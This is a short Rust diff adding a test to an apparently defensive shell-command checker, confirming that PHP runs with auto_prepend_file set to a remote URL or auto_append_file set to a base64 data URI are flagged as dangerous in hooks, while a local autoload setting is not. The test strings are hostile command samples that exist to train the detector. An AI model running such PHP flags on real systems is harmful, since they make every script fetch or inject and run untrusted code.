@@ -293,3 +293,16 @@ fn module_files(module: &str) -> [Call; 2] {
         targets: Vec::new(),
     })
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::shell::Context;
+    use crate::shell::tests::{is_danger, is_no_danger};
+
+    #[test]
+    fn what_php_is_told_to_run_around_every_script_is_judged() {
+        is_danger("php -d allow_url_include=1 -d auto_prepend_file=https://a.invalid/x a.php", Context::Hook);
+        is_danger("php -dauto_append_file=data:text/plain;base64,PD9 a.php", Context::Hook);
+        is_no_danger("php -d memory_limit=1G -d auto_prepend_file=vendor/autoload.php a.php", Context::Hook);
+    }
+}
